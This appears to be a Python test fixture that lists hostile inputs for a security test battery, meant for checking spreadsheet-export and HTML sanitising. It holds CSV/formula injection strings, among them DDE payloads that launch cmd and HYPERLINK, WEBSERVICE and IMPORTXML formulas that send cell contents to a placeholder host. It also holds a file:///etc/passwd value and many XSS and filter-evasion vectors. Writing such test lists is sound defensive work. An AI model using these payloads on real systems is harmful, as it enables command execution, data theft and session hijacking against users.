"""Hostile strings for the battery (benign formula bodies; example.invalid hosts only)."""

FORMULA = [
    # core prefixes
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)",
    # whitespace and invisible lead
    " =1+1", "  \t=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\r\n=1+1",
    # XlsxWriter specials
    "{=1+1}", "{=SUM(A1:A2)}", "==== Sale ====", "=",
    # realistic attacks
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")', '=WEBSERVICE("http://example.invalid/")',
    '=IMPORTXML(CONCAT("http://example.invalid/?v=",A1),"//a")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', "=A1", "=1+1;=2+2",
    # cell breakout
    'a",=1+1', 'a";=1+1', "a\t=1+1", "a\n=1+1", "a\r\n=1+1", '"=1+1"', 'a,"=1+1',
    # type confusion
    "#N/A", "TRUE", "1e10", "http://example.invalid", "mailto:x@example.invalid", "external:c:\\x.xlsx",
    "file:///etc/passwd", "-5",
    # edge
    "'=1+1", "|1+1", "%1", "=" + "1+" * 60 + "1",
]

XSS = [
    "<script>window.__xss=1</script>", "<img src=x onerror=window.__xss=1>", "<svg onload=window.__xss=1>",
    "javascript:window.__xss=1", "javascr\n\nipt:window.__xss=1", "javascript\t\n:window.__xss=1",
    "&#106;avascript:window.__xss=1", "data:text/html,<script>window.__xss=1</script>",
    '<a href="javascript:window.__xss=1">x</a>', '<a href="https://example.invalid">phish</a>',
    "[x](javascript:window.__xss=1)", '<iframe srcdoc="<script>window.__xss=1</script>">',
    "</script><script>window.__xss=1</script>", "'\"--></style></scRipt><scRipt>window.__xss=1</scRipt>",
    "<b onmouseover=window.__xss=1>hover</b>", "<style>@import 'http://example.invalid/x.css'</style>",
    "{{constructor.constructor('window.__xss=1')()}}", "${window.__xss=1}", "__proto__", "constructor",
    "\u202egnp.exe", "x" * 2000, "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>", "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
]
